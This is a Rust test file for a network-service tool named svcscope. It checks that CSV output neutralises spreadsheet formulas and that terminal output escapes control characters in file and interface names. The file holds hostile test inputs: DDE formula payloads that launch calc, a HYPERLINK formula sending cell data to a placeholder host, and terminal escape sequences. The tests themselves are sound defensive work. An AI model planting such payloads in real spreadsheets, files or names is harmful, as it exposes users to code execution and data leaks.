//! Text from catalog files and file names in the outputs people open elsewhere: CSV cells never start
//! a spreadsheet formula, and terminal output never carries a control character of theirs.

use std::path::PathBuf;
use std::process::Command;

fn root() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
}

fn svcscope(args: &[&str]) -> (i32, String, String) {
    svcscope_testkit::run(env!("CARGO_BIN_EXE_svcscope"), &root(), args)
}

/// A temp dir of one test, removed when dropped.
struct Dir(PathBuf);

impl Dir {
    fn new(test: &str) -> Dir {
        let path = std::env::temp_dir().join(format!("svcscope-out-{}-{test}", std::process::id()));
        let _ = std::fs::remove_dir_all(&path);
        std::fs::create_dir_all(&path).unwrap();
        Dir(path)
    }

    fn write(&self, name: &str, text: &str) -> String {
        let path = self.0.join(name);
        std::fs::write(&path, text).unwrap();
        path.to_str().unwrap().to_string()
    }
}

impl Drop for Dir {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

/// RFC 4180 records: fields may be quoted, `""` is a quote, quoted fields may hold line breaks.
fn csv_records(text: &str) -> Vec<Vec<String>> {
    let mut records = Vec::new();
    let mut record = Vec::new();
    let mut field = String::new();
    let mut chars = text.chars().peekable();
    let mut quoted = false;
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => field.push(c),
            (false, '"') if field.is_empty() => quoted = true,
            (false, ',') => record.push(std::mem::take(&mut field)),
            (false, '\n') => {
                record.push(std::mem::take(&mut field));
                records.push(std::mem::take(&mut record));
            }
            (false, c) => field.push(c),
        }
    }
    assert!(
        !quoted && field.is_empty() && record.is_empty(),
        "CSV ends inside a record"
    );
    records
}

/// Names a spreadsheet would run as formulas (the OWASP list: `=`, `+`, `-`, `@`; TAB and CR are
/// control characters, which catalogs may not hold).
const FORMULAS: [&str; 4] = [
    "=HYPERLINK(\"http://example.invalid/?\"&A1,\"Open\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
];

fn formula_catalog() -> String {
    let q = |s: &str| format!("\"{}\"", s.replace('\\', "\\\\").replace('"', "\\\""));
    format!(
        "[[service]]\nname = {}\nsystem = {}\nports = [ {{ app = {}, tcp = 88, note = {} }} ]\n\n\
         [[service]]\nname = \"Kerberos Key Distribution Center\"\nports = [ {{ app = {}, udp = 88 }} ]\n",
        q(FORMULAS[0]),
        q(FORMULAS[1]),
        q(FORMULAS[2]),
        q(FORMULAS[3]),
        q(FORMULAS[3]),
    )
}

fn check_no_formula(what: &str, csv: &str, expect_seen: usize) {
    let records = csv_records(csv);
    assert!(records.len() > 1, "{what}: {csv}");
    let width = records[0].len();
    let mut seen = 0;
    for r in &records {
        assert_eq!(r.len(), width, "{what}: a record of its own width: {r:?}");
        for cell in r {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{what}: a cell a spreadsheet runs: {cell:?}"
            );
            if FORMULAS.iter().any(|f| cell.contains(&f[1..])) {
                seen += 1;
                assert!(cell.starts_with('\''), "{what}: {cell:?}");
            }
        }
    }
    assert!(
        seen >= expect_seen,
        "{what}: only {seen} hostile cells:\n{csv}"
    );
}

/// Every CSV output: catalog rows, the analysis report and host profiles.
#[test]
fn csv_cells_that_would_be_formulas_are_neutralised() {
    let dir = Dir::new("csv");
    let catalog = dir.write("formulas.toml", &formula_catalog());
    let (code, out, err) = svcscope(&[
        "--catalog",
        &catalog,
        "catalog",
        "--format",
        "csv",
        "--port",
        "88",
    ]);
    assert_eq!(code, 0, "{err}");
    check_no_formula("catalog", &out, 5);
    // The neutralised cell is the name with a ' in front, nothing lost.
    let records = csv_records(&out);
    assert!(
        records.iter().any(|r| r[0] == format!("'{}", FORMULAS[0])),
        "{out}"
    );

    let (code, out, err) = svcscope(&[
        "--catalog",
        &catalog,
        "analyze",
        "--format",
        "csv",
        "-q",
        "fixtures/domain.pcapng",
    ]);
    assert_eq!(code, 0, "{err}");
    check_no_formula("analyze", &out, 3);

    let (code, out, err) = svcscope(&[
        "--catalog",
        &catalog,
        "hosts",
        "--format",
        "csv",
        "-q",
        "fixtures/domain.pcapng",
    ]);
    assert_eq!(code, 0, "{err}");
    check_no_formula("hosts", &out, 3);

    let interface = dir.write(
        "iface.toml",
        "[[interface]]\nuuid = \"12345678-1234-abcd-ef00-01234567cffb\"\nname = \"=1+1\"\nprotocol = \"@x\"\ntitle = \"-1\"\nservices = [\"Net Logon\"]\n",
    );
    let (code, out, err) = svcscope(&[
        "--catalog",
        &interface,
        "catalog",
        "--interfaces",
        "--format",
        "csv",
    ]);
    assert_eq!(code, 0, "{err}");
    let records = csv_records(&out);
    let netlogon = records
        .iter()
        .find(|r| r[0] == "12345678-1234-abcd-ef00-01234567cffb")
        .unwrap();
    assert_eq!(netlogon[1..4], ["'=1+1", "'@x", "'-1"]);
}

/// No control character but the line breaks svcscope writes itself.
fn assert_no_control(what: &str, text: &str) {
    let bad: Vec<char> = text
        .chars()
        .filter(|&c| c.is_control() && c != '\n')
        .collect();
    assert!(
        bad.is_empty(),
        "{what}: control characters {bad:?} in:\n{text}"
    );
}

/// A capture file's name with escape sequences and line breaks shows escaped in the terminal report
/// and in error messages, on one line.
#[test]
fn file_names_reach_the_terminal_escaped() {
    let dir = Dir::new("terminal-files");
    let name = "cap\u{1b}]0;owned\u{7}\u{1b}[2J\nfake line\r\u{9b}31m.pcap";
    let escaped = "cap\\x1b]0;owned\\x07\\x1b[2J\\nfake line\\r\\u{9b}31m.pcap";
    let capture = dir.0.join(name);
    std::fs::copy(root().join("fixtures/rpc.pcap"), &capture).unwrap();
    let (code, out, err) = svcscope(&["analyze", "-q", capture.to_str().unwrap()]);
    assert_eq!(code, 0, "{err}");
    assert_no_control("analyze table", &out);
    assert!(out.contains(escaped), "{out}");

    let bad = dir.0.join(format!("bad-{name}"));
    std::fs::write(&bad, b"not a capture file at all").unwrap();
    let (code, out, err) = svcscope(&["analyze", "-q", bad.to_str().unwrap()]);
    assert_eq!(code, 1);
    assert_no_control("analyze table", &out);
    assert_no_control("stderr", &err);
    assert_eq!(err.lines().count(), 1, "{err}");
    assert!(err.contains(&format!("bad-{escaped}")), "{err}");

    let (code, _, err) = svcscope(&["--catalog", bad.to_str().unwrap(), "catalog"]);
    assert_eq!(code, 2);
    assert_no_control("stderr", &err);
    assert_eq!(err.lines().count(), 1, "{err}");
    assert!(err.contains(&format!("bad-{escaped}")), "{err}");
}

fn is_root() -> bool {
    Command::new("id")
        .arg("-u")
        .output()
        .is_ok_and(|o| String::from_utf8_lossy(&o.stdout).trim() == "0")
}

/// Interface names are the system's, and root can give one an escape sequence: the interface list
/// and the live capture show it escaped, and its CSV cell is no formula.
#[test]
fn interface_names_reach_the_terminal_escaped() {
    if !is_root() {
        eprintln!("interface names skipped: creating interfaces in a network namespace needs root");
        return;
    }
    let ns = format!("svcscope-esc-{}", std::process::id());
    let ip = |args: &[&str]| {
        Command::new("ip")
            .args(args)
            .status()
            .is_ok_and(|s| s.success())
    };
    if !ip(&["netns", "add", &ns]) {
        eprintln!("interface names skipped: ip netns add failed");
        return;
    }
    let hostile = "ev\u{1b}[2Jil";
    let ok = ip(&[
        "-n", &ns, "link", "add", hostile, "type", "veth", "peer", "name", "=1+1",
    ]) && ip(&["-n", &ns, "link", "set", hostile, "up"])
        && ip(&["-n", &ns, "link", "set", "=1+1", "up"]);
    let in_ns = |args: &[&str]| {
        let out = Command::new("ip")
            .args(["netns", "exec", &ns, env!("CARGO_BIN_EXE_svcscope")])
            .args(args)
            .output()
            .unwrap();
        (
            out.status.code().unwrap_or(-1),
            String::from_utf8(out.stdout).unwrap(),
            String::from_utf8(out.stderr).unwrap(),
        )
    };
    let result = std::panic::catch_unwind(|| {
        assert!(ok, "creating the veth pair failed");
        let (code, out, err) = in_ns(&["interfaces"]);
        assert_eq!(code, 0, "{err}");
        assert_no_control("interfaces", &out);
        assert!(out.contains("ev\\x1b[2Jil"), "{out}");
        let (code, out, err) = in_ns(&["interfaces", "--format", "csv"]);
        assert_eq!(code, 0, "{err}");
        let records = csv_records(&out);
        assert!(records.iter().any(|r| r[0] == "'=1+1"), "{out}");
        let (code, out, err) = in_ns(&["capture", "-i", hostile, "--duration", "1s", "-Z", "root"]);
        assert_eq!(code, 0, "{err}");
        assert_no_control("capture report", &out);
        assert_no_control("capture stderr", &err);
        assert!(
            out.contains("live ev\\x1b[2Jil:") && err.contains("listening on ev\\x1b[2Jil"),
            "{out}\n{err}"
        );
    });
    ip(&["netns", "del", &ns]);
    if let Err(e) = result {
        std::panic::resume_unwind(e);
    }
}
